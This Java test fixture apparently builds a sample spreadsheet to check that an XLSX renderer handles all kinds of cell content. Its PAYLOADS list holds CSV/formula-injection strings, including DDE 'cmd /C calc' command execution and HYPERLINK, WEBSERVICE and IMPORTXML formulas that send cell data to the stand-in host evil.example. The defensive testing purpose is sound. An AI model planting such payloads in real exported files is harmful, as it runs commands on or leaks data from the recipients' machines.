package org.understudy.render.xlsx;

import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.understudy.document.Imprint;
import org.understudy.document.Paper;
import org.understudy.document.Sheet;
import org.understudy.document.Sheet.Cell;
import org.understudy.document.Sheet.Column;
import org.understudy.document.Sheet.Column.Type;
import org.understudy.plan.DocumentId;
import org.understudy.text.Amount;
import org.understudy.text.Language;

/** A sheet with everything that can be in one. */
public final class SampleSheet {
    /** Texts that a spreadsheet program would like to reckon with, or to take for something else. */
    public static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "=WEBSERVICE(\"https://evil.example/\"&A2)",
            "=IMPORTXML(\"https://evil.example\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=SUM(A1:A9)",
            "+1+1",
            "+31 6 0000 0622",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@example",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "'=1+1",
            "''=1+1",
            "\"=1+1\"",
            "{=1+1}",
            "%0A=1+1",
            "；=1+1",
            "＝1+1",
            "1E5",
            "0012",
            "1/2",
            "3-4",
            "TRUE",
            "#REF!",
            "http://evil.example/");

    private SampleSheet() {}

    public static Sheet of(Language language) {
        return of(language, Paper.A4, tabs());
    }

    static Sheet of(Language language, Paper paper, List<Sheet.Tab> tabs) {
        var imprint = new Imprint(
                DocumentId.L2,
                Optional.empty(),
                "counsel",
                "L2-counsel",
                "Assets & more",
                "Plan of Maria",
                "Maria Santos",
                language,
                3,
                LocalDate.of(2026, 11, 1),
                Optional.of(LocalDate.of(2027, 5, 1)),
                paper,
                Optional.of("0a1b2c3d"));
        return new Sheet(imprint, "Draft & not signed", "L2-counsel · edition 3", "d MMMM uuuu", tabs);
    }

    private static List<Sheet.Tab> tabs() {
        List<Column> columns = List.of(
                new Column("Text", Type.TEXT, 20),
                new Column("=Day", Type.DAY, 14),
                new Column("Amount", Type.AMOUNT, 12),
                new Column("Number", Type.NUMBER, 8));
        List<List<Cell>> rows = List.of(
                row("One\nTwo", "2027-03-01", "EUR 1234.50", 1),
                row("Ça coûte 5 €, Łódź", "1999-12-31", "USD 12", 2),
                row("", "2028-02-29", "JPY 1500", 3),
                row("Four", "2026-11-22", "EUR 0.0125", -4),
                List.of(
                        new Cell.Text("only text"),
                        new Cell.Text("not on file"),
                        new Cell.Blank(),
                        new Cell.Text("not on file")));
        return List.of(
                new Sheet.Tab("All: kinds/of [things]", columns, rows),
                new Sheet.Tab("Nothing", columns, List.of()),
                new Sheet.Tab(
                        "Payloads",
                        List.of(new Column("What", Type.TEXT, 40)),
                        Stream.concat(PAYLOADS.stream(), Stream.of("the end"))
                                .map(it -> List.<Cell>of(new Cell.Text(it)))
                                .toList()));
    }

    private static List<Cell> row(String text, String day, String amount, int number) {
        return List.of(
                new Cell.Text(text),
                new Cell.Day(LocalDate.parse(day)),
                new Cell.Money(Amount.parse(amount).orElseThrow()),
                new Cell.Number(number));
    }
}
